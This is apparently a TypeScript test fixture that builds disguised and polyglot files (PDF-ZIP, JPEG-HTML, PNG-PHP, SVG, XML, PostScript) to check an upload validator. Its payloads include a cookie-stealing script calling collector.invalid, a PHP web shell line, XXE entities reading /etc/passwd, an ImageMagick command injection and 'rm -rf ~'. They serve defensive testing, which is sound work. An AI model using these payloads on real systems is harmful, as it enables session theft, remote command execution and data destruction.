import { gzipSync } from 'node:zlib';
import { zipSync } from 'fflate';
import { ascii, plain, svgWithScript } from '../hostile-files.ts';
import { filesOf, type HostileFile } from './hostile-file.ts';
import { payslipWith } from './pdf-parts.ts';

const page = '<!doctype html><script>fetch("//collector.invalid/"+document.cookie)</script>';
const comment = (words: string) => {
  const text = ascii(words);
  return Buffer.concat([
    Uint8Array.of(0xff, 0xfe, (text.length + 2) >> 8, (text.length + 2) & 255),
    text,
  ]);
};
const afterStart = (jpeg: Buffer, ...parts: Uint8Array[]) =>
  Buffer.concat([jpeg.subarray(0, 2), ...parts, jpeg.subarray(2)]);
const entity =
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>';

/** Files that are two things at once, or another than they seem. */
export const disguisedFiles: HostileFile[] = filesOf({
  'a PDF that is a ZIP too': [
    () => Buffer.concat([payslipWith({}), zipSync({ 'run.exe': ascii('MZ') })]),
    'read',
  ],
  'a page of HTML with a PDF behind it': [
    () => Buffer.concat([ascii(`${page}<!--\n`), payslipWith({}), ascii('-->')]),
    'read',
  ],
  'a JPEG that is a page of HTML too': [
    async () => afterStart(await plain().jpeg().toBuffer(), comment(`*/=1;/*${page}`)),
    'read',
  ],
  'a JPEG with a ZIP behind it': [
    async () =>
      Buffer.concat([await plain().jpeg().toBuffer(), zipSync({ 'run.exe': ascii('MZ') })]),
    'read',
  ],
  'a PNG with a program of PHP behind it': [
    async () =>
      Buffer.concat([await plain().png().toBuffer(), ascii('<?php system($_GET[0]); ?>')]),
    'read',
  ],
  'a GIF that is a script too': [
    () => ascii('GIF89a/*\x01\x00\x01\x00\x00*/=1;fetch("//collector.invalid/");'),
    'file_type',
  ],
  'a BMP that is a script too': [() => ascii('BM=1;/*\0\0\0\0*/alert(1)'), 'file_type'],
  'an SVG with a script and a file of the server': [() => svgWithScript, 'file_type'],
  'an SVG that is packed': [() => gzipSync(svgWithScript), 'file_type'],
  'an SVG whose words unfold': [
    () => ascii(`${entity}<svg xmlns="http://www.w3.org/2000/svg"><text>&b;&f;</text></svg>`),
    'file_type',
  ],
  'an XML that names a file of the server': [() => ascii(`${entity}<x>&f;</x>`), 'file_type'],
  'a page of HTML': [() => ascii(page), 'file_type'],
  'PostScript that reads a file': [
    () => ascii('%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file 1000 string readstring'),
    'file_type',
  ],
  'a drawing for ImageMagick': [
    () =>
      ascii(
        'push graphic-context\nfill \'url(https://collector.invalid/"|ls "-la)\'\npop graphic-context',
      ),
    'file_type',
  ],
  'a program for Windows': [() => ascii('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff'), 'file_type'],
  'a program for Linux': [() => ascii('\x7fELF\x02\x01\x01\0'), 'file_type'],
  'a script of the shell': [() => ascii('#!/bin/sh\nrm -rf ~'), 'file_type'],
  'a picture in AVIF': [() => plain().avif().toBuffer(), 'file_type'],
});

export { afterStart, comment };
